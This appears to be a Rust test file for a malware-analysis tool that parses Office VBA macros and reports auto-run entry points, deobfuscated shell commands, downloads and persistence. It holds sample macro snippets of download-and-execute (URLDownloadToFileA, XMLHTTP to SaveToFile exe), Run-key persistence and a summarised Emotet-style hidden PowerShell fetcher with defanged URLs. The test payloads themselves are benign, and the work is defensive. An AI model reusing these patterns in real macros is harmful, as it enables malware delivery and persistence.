//! VBA projects.

use super::*;
use expect_test::expect;

#[test]
fn the_shape_of_july_2020() {
    let modules = [
        module(
            "ThisDocument",
            ModuleKind::Class,
            &fixture(include_str!("../fixtures/emotet-2020-07-document.b64")),
        ),
        module(
            "Module1",
            ModuleKind::Standard,
            &fixture(include_str!("../fixtures/emotet-2020-07-module.b64")),
        ),
    ];
    let parsed = survey_vba(&modules, &Limits::desk());
    assert_eq!(parsed.problems, []);
    expect![[r#"
        entry Open ThisDocument.Document_open:2
        call Object Module1:22 GetObject(winmgmts:win32_Process) from [Document_open]
        call Process Module1:23 Win32_Process.Create(powershell -w hidden -en JABWAG4AcQBrAHo) from [Document_open]
        command Module1:23 PowerShell hidden fetches executes [-EncodedCommand, base64 UTF-16LE, backticks, variables, concatenation, character codes, split]
          hxxp://one[.]example/wp-admin/Xa1/
          hxxp://two[.]example/cgi-bin/b2/
          hxxps://three[.]example/c/
          hxxp://four[.]example/~d/4/
          hxxp://five[.]invalid:8080/e/
    "#]].assert_eq(&describe(&parsed.value));
    assert!(parsed.value.calls.iter().any(Call::makes_shell));
}

#[test]
fn only_definitions_are_entry_points() {
    check(
        "' Sub AutoOpen()\nREM Sub Document_Open()\nx = \"Sub Workbook_Open()\"\nCall AutoOpen\nEnd Sub\n",
        expect![""],
    );
    check(
        "Private Sub Workbook_Open()\nEnd Sub\nFunction Auto_Close() As Long\nEnd Function\n\
         Sub b_Click(): End Sub: Sub c_Change()\nEnd Sub\nSub aut\u{6f}open2()\nEnd Sub\nProperty Get AutoExec()\nEnd Property",
        expect![[r#"
            entry Open M.Workbook_Open:1
            entry Close M.Auto_Close:3
            entry Control M.b_Click:5
            entry Control M.c_Change:5
        "#]],
    );
    check(
        "Public Sub _\n  Document_Open _\n ()\nEnd Sub",
        expect![[r#"
        entry Open M.Document_Open:2
    "#]],
    );
}

#[test]
fn words_in_honest_places_are_no_calls() {
    check(
        "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\n\
         ' Shell \"cmd /c x\"\nDim Shell As Object\nSub Workbook_Open()\n  MsgBox \"Shell and CreateObject\"\n\
           shell = 3\n  Me.Shell = 1\n  Debug.Print \"powershell is nice\"\nEnd Sub\n\
         Sub Shell2()\nEnd Sub\nPublic Type Run\n Exec As Long\nEnd Type",
        expect![[r#"
            entry Open M.Workbook_Open:4
        "#]],
    );
    check(
        "Sub Workbook_Open()\nSet d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub",
        expect![[r#"
        entry Open M.Workbook_Open:1
        call Object M:2 CreateObject(Scripting.Dictionary) from [Workbook_Open]
    "#]],
    );
}

#[test]
fn tells_what_is_reached_from_where() {
    check(
        "Sub AutoOpen()\n a\nEnd Sub\nSub a()\n Application.Run \"M.b\"\nEnd Sub\nSub b()\n Shell \"calc.exe\", 1\nEnd Sub\n\
         Sub other_Click()\n VBA.Shell Environ(\"TEMP\") & \"\\x.exe\"\nEnd Sub\nSub alone()\n Shell y\nEnd Sub",
        expect![[r#"
            entry Open M.AutoOpen:1
            entry Control M.other_Click:10
            call Other M:5 Run(M.b) from [AutoOpen]
            call Process M:8 Shell(calc.exe) from [AutoOpen]
            call Process M:11 Shell(%TEMP%\x.exe) from [other_Click]
            call Process M:14 Shell() from []
            command M:8 Other []
            command M:11 Other []
        "#]],
    );
}

#[test]
fn a_form_that_is_shown_runs_its_initialiser() {
    let modules = [
        module("M", ModuleKind::Standard, "Sub Auto_Open()\nDim f As New Form1\nEnd Sub"),
        module(
            "Form1",
            ModuleKind::Class,
            "Sub UserForm_Initialize()\nShell \"calc\"\nEnd Sub\nSub x()\nShell \"a\"\nEnd Sub",
        ),
    ];
    expect![[r#"
        entry Open M.Auto_Open:1
        call Process Form1:2 Shell(calc) from [Auto_Open]
        call Process Form1:5 Shell(a) from []
        command Form1:2 Other []
        command Form1:5 Other []
    "#]]
    .assert_eq(&describe(&survey_vba(&modules, &Limits::desk()).value));
}

/// The argument of the one process call.
#[track_caller]
fn check_argument(body: &str, expected: &str) {
    let survey = survey(&format!("Sub AutoOpen()\n{body}\nEnd Sub\n"));
    let found: Vec<&str> = survey
        .calls
        .iter()
        .filter(|call| call.power == Power::Process)
        .map(|call| call.argument.as_str())
        .collect();
    assert_eq!(found, [expected], "{body}");
}

#[test]
fn folds_constants() {
    check_argument("Shell \"ca\" & \"lc\" + \".exe\"", "calc.exe");
    check_argument("Shell Chr(99) & ChrW$(&H61) & Chr(54 * 2) & Chr(&O143)", "calc");
    check_argument("Shell StrReverse(\"clac\")", "calc");
    check_argument("Shell Replace(\"cxaxlxc\", \"x\", \"\")", "calc");
    check_argument("Shell Join(Split(\"c*a*l*c\", \"*\"), \"\")", "calc");
    check_argument("Shell Join(Array(\"ca\", \"lc\"), \"\")", "calc");
    check_argument("Shell Mid(\"xxcalcxx\", 3, 4)", "calc");
    check_argument("Shell LCase(Left(\"CALC.x\", 4)) & Right(\"a.exe\", 4)", "calc.exe");
    check_argument("Shell Trim(\"  calc  \")", "calc");
    check_argument("Const c = \"calc\"\nShell c & \".exe\"", "calc.exe");
    check_argument("Dim s As String\ns = s & \"ca\"\ns = s & \"lc\"\nShell s, vbHide", "calc");
    check_argument("s = \"ca\": s = s + \"lc\": Call Shell(s, 0)", "calc");
    check_argument("If x Then s = \"calc\" Else s = \"calc\"\nx = Shell(s)", "calc");
    check_argument("Shell \"say \"\"hi\"\"\"", "say \"hi\"");
    check_argument("Shell _\n  \"calc\"", "calc");
    check_argument("Shell pathname:=\"calc\"", "calc");
    check_argument("Shell \"calc \" & Range(\"A1\").Value & \" /x\"", "calc … /x");
    check_argument("For i = 1 To 3: s = s & Chr(a(i)): Next\nShell \"calc\" & s", "calc…");
    check_argument("CreateObject(\"WScr\" & \"ipt.Shell\").Run \"calc\", 0, False", "calc");
    check_argument("Set w = CreateObject(\"WScript.Shell\")\nw.Exec (\"calc\")", "calc");
    check_argument("With CreateObject(\"WScript.Shell\")\n.Run \"calc\"\nEnd With", "calc");
    check_argument("Dim w As New WshShell\nw.Run \"calc\"", "calc");
    check_argument(
        "Set x = GetObject(\"winmgmts:\").Get(\"Win32_Process\")\nx.Create \"calc\", Null, Null, p",
        "calc",
    );
    check_argument("CreateObject(\"Shell.Application\").ShellExecute \"calc\", \"/x\"", "calc /x");
    check_argument("ExecuteExcel4Macro \"EXEC(\"\"calc\"\")\"", "EXEC(\"calc\")");
}

#[test]
fn fills_places_inside_values() {
    check_argument("Dim a(1)\na(0) = \"ca\": a(1) = \"lc\"\nShell Join(a, \"\")", "calc");
    check_argument("ReDim a(1 To 2)\na(2) = \"lc\": a(1) = \"ca\"\nShell a(1) & a(2)", "calc");
    check_argument(
        "Dim a() As String\nReDim a(0)\na(0) = \"ca\"\nReDim Preserve a(1)\na(1) = \"lc\"\nShell a(0) & a(1)",
        "calc",
    );
    check_argument("Dim a(1)\na(0) = \"calc\"\nReDim a(1)\nShell \"x\" & a(0)", "x");
    check_argument(
        "Dim b(3) As Byte\nb(0) = 99: b(1) = 97: b(2) = 108: b(3) = 99\nShell StrConv(b, vbUnicode)",
        "calc",
    );
    check_argument("s = \"xxlc\"\nMid(s, 1, 2) = \"ca\"\nShell s", "calc");
    check_argument("s = \"cazz\"\nMid$(s, 3) = \"lcxx\"\nShell s", "calc");
}

#[test]
fn a_place_that_may_have_changed_is_not_known() {
    // A name nobody assigned to is 0 here.
    check_argument("Dim a(1)\na(0) = \"calc\"\na(n) = \"x\"\nShell a(0)", "x");
    check_argument("Dim a(1)\na(0) = \"calc\"\na(Timer) = \"x\"\nShell a(0)", "");
    check_argument(
        "Dim a(1)\na(0) = \"x\"\nFor i = 1 To 3: a(0) = a(0) & \"y\": Next\nShell \"calc\" & a(0)",
        "calcxyyy",
    );
    check_argument("Dim a(1)\na(0) = \"calc\"\na(f(n)) = \"x\"\nShell a(0)", "");
    check_argument("Dim a(1)\na(0) = \"calc\"\na(0)(1) = \"x\"\nShell a(0)", "");
    check_argument("s = \"calc\"\nMid(s, f(n), 1) = \"x\"\nShell s", "");
    check_argument("Dim a(9999999)\na(0) = \"calc\"\nShell a(0)", "");
    check_argument("Dim a(1)\na(5) = \"calc\"\nShell \"x\" & a(5)", "x…");
}

#[test]
fn chooses_among_constants() {
    check_argument("Shell Switch(False, \"x\", True, \"calc\")", "calc");
    check_argument("Shell Join(Filter(Array(\"ca\", \"zz\", \"alc\"), \"z\", False), \"\")", "caalc");
    // Both the call by name and the call it comes to are told.
    check(
        "Sub AutoOpen()\nCallByName CreateObject(\"WScript.Shell\"), \"R\" & \"un\", 1, \"calc\"\nEnd Sub",
        expect![[r#"
            entry Open M.AutoOpen:1
            call Process M:2 CallByName(Run) from [AutoOpen]
            call Object M:2 CreateObject(WScript.Shell) from [AutoOpen]
            call Process M:2 Run(calc) from [AutoOpen]
            command M:2 Other []
        "#]],
    );
    check(
        "Public Const c = \"calc\"\nSub AutoOpen()\n Shell M.c\nEnd Sub",
        expect![[r#"
            entry Open M.AutoOpen:2
            call Process M:3 Shell(calc) from [AutoOpen]
            command M:3 Other []
        "#]],
    );
}

#[test]
fn functions_give_their_constants() {
    check(
        "Const t = \"lc\"\nFunction f()\n f = \"ca\" & t\nEnd Function\nFunction g(s As String, Optional n) As String\n\
         g = StrReverse(s)\nEnd Function\nSub AutoOpen()\n Shell f & g(\"exe.\"), 0\nEnd Sub",
        expect![[r#"
            entry Open M.AutoOpen:8
            call Process M:9 Shell(calc.exe) from [AutoOpen]
            command M:9 Other []
        "#]],
    );
}

#[test]
fn declared_functions_by_their_exported_name() {
    check(
        "Private Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal u As String, \
         ByVal f As String, ByVal r As Long, ByVal c As Long) As Long\nPrivate Declare Function VirtualAlloc Lib \"kernel32\" ()\n\
         Sub Auto_Open()\n r = dl(0, \"http://a.example/x\", \"C:\\x.exe\", 0, 0)\nEnd Sub",
        expect![[r#"
            entry Open M.Auto_Open:3
            call Network M:4 URLDownloadToFileA(hxxp://a[.]example/x C:\x.exe) from [Auto_Open]
            urls
              hxxp://a[.]example/x
        "#]],
    );
}

#[test]
fn downloads_and_files() {
    check(
        "Sub Workbook_Open()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/x\", False\nh.Send\n\
         Set s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"C:\\x.exe\", 2\n\
         Open \"C:\\y\" For Binary As #1\nOpen \"C:\\z\" For Input As #2\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Run\\x\", 1\n\
         Set t = CreateObject(\"Schedule.Service\")\nActiveWorkbook.FollowHyperlink \"help.docx\"\n\
         Workbooks.Open \"http://b.example/b.xls\"\nWorkbooks.Open \"c.xls\"\nEnd Sub",
        expect![[r#"
            entry Open M.Workbook_Open:1
            call Object M:2 CreateObject(MSXML2.XMLHTTP) from [Workbook_Open]
            call Network M:3 Open(hxxp://a[.]example/x) from [Workbook_Open]
            call Network M:4 Send() from [Workbook_Open]
            call Object M:5 CreateObject(ADODB.Stream) from [Workbook_Open]
            call Write M:7 SaveToFile(C:\x.exe) from [Workbook_Open]
            call Write M:8 Open(C:\y) from [Workbook_Open]
            call Object M:10 CreateObject(WScript.Shell) from [Workbook_Open]
            call Persist M:10 RegWrite(HKCU\Run\x) from [Workbook_Open]
            call Persist M:11 CreateObject(Schedule.Service) from [Workbook_Open]
            call Other M:12 FollowHyperlink(help.docx) from [Workbook_Open]
            call Network M:13 Open(hxxp://b[.]example/b.xls) from [Workbook_Open]
            urls
              hxxp://a[.]example/x
              hxxp://b[.]example/b.xls
        "#]],
    );
}

#[test]
fn a_common_method_name_ties_nothing_together() {
    let modules = [
        module(
            "M",
            ModuleKind::Standard,
            "Sub Auto_Open()\nDim x As Quiet\nSet x = New Quiet\nx.Start\nEnd Sub",
        ),
        module("Quiet", ModuleKind::Class, "Sub Start()\nEnd Sub"),
        module("Loud", ModuleKind::Class, "Sub Start()\nShell \"calc\"\nEnd Sub"),
    ];
    let survey = survey_vba(&modules, &Limits::desk()).value;
    assert_eq!(survey.calls[0].reached_from, Vec::<String>::new());
}

#[test]
fn a_class_named_by_a_declaration_is_alive() {
    let modules = [
        module("M", ModuleKind::Standard, "Dim x As New Loud\nSub Auto_Open()\nx.Start\nEnd Sub"),
        module("Loud", ModuleKind::Class, "Sub Start()\nShell \"calc\"\nEnd Sub"),
    ];
    let survey = survey_vba(&modules, &Limits::desk()).value;
    assert_eq!(survey.calls[0].reached_from, ["Auto_Open"]);
}

#[test]
fn a_module_named_like_an_automatic_macro_starts_with_its_main() {
    let modules = [module("AutoExec", ModuleKind::Standard, "Sub Main()\nShell \"calc\"\nEnd Sub")];
    let survey = survey_vba(&modules, &Limits::desk()).value;
    assert_eq!(survey.calls[0].reached_from, ["Main"]);
}

#[test]
fn urls_of_strings_are_told_without_any_call() {
    check(
        "Sub a()\nx = \"see http://a.example/x, \"\"http://b.example\"\"\"\n' http://comment.example\nEnd Sub",
        expect![[r#"
            urls
              hxxp://a[.]example/x
              hxxp://b[.]example
        "#]],
    );
}

/// The way to the one process call: `module.procedure:line`.
#[track_caller]
fn check_path(modules: &[Module], expected: &[&str]) {
    let survey = survey_vba(modules, &Limits::desk()).value;
    let call = survey.calls.iter().find(|call| call.power == Power::Process).unwrap();
    let step = |step: &CallStep| format!("{}.{}:{}", step.module, step.procedure, step.line);
    assert_eq!(call.path.iter().map(step).collect::<Vec<_>>(), expected);
}

#[test]
fn the_way_from_the_entry_point_to_the_call_is_told() {
    let standard = |code: &str| [module("M", ModuleKind::Standard, code)];
    check_path(&standard("Sub AutoOpen()\nShell \"calc\"\nEnd Sub"), &["M.AutoOpen:2"]);
    check_path(
        &standard(
            "Sub AutoOpen()\n x = 1\n a\nEnd Sub\nSub a()\n b: b\nEnd Sub\nSub b()\n\n Shell \"calc\"\nEnd Sub",
        ),
        &["M.AutoOpen:3", "M.a:6", "M.b:10"],
    );
    // The shorter of two ways, though the longer one stands first.
    check_path(
        &standard("Sub AutoOpen()\n a\n b\nEnd Sub\nSub a()\n b\nEnd Sub\nSub b()\n Shell \"calc\"\nEnd Sub"),
        &["M.AutoOpen:3", "M.b:9"],
    );
    check_path(&standard("Sub alone()\n Shell \"calc\"\nEnd Sub"), &[]);
    // Opening comes before a click.
    check_path(
        &standard(
            "Sub b_Click()\n a\nEnd Sub\nSub a()\n Shell \"calc\"\nEnd Sub\nSub AutoOpen()\n a\nEnd Sub",
        ),
        &["M.AutoOpen:8", "M.a:5"],
    );
    check_path(
        &[
            module("M", ModuleKind::Standard, "Sub Auto_Open()\nDim f As New Form1\nEnd Sub"),
            module("Form1", ModuleKind::Class, "Sub UserForm_Initialize()\nShell \"calc\"\nEnd Sub"),
        ],
        &["M.Auto_Open:2", "Form1.UserForm_Initialize:2"],
    );
}

#[test]
fn a_way_of_a_thousand_steps_keeps_its_end() {
    let mut code = "Sub AutoOpen()\np0\nEnd Sub\n".to_owned();
    for at in 0..1_000 {
        writeln!(code, "Sub p{at}()\np{}\nEnd Sub", at + 1).unwrap();
    }
    code.push_str("Sub p1000()\nShell \"calc\"\nEnd Sub");
    let survey = survey(&code);
    let path = &survey.calls[0].path;
    assert_eq!((path.len(), path[0].procedure.as_str(), path[31].line), (32, "p969", 3_005));
}
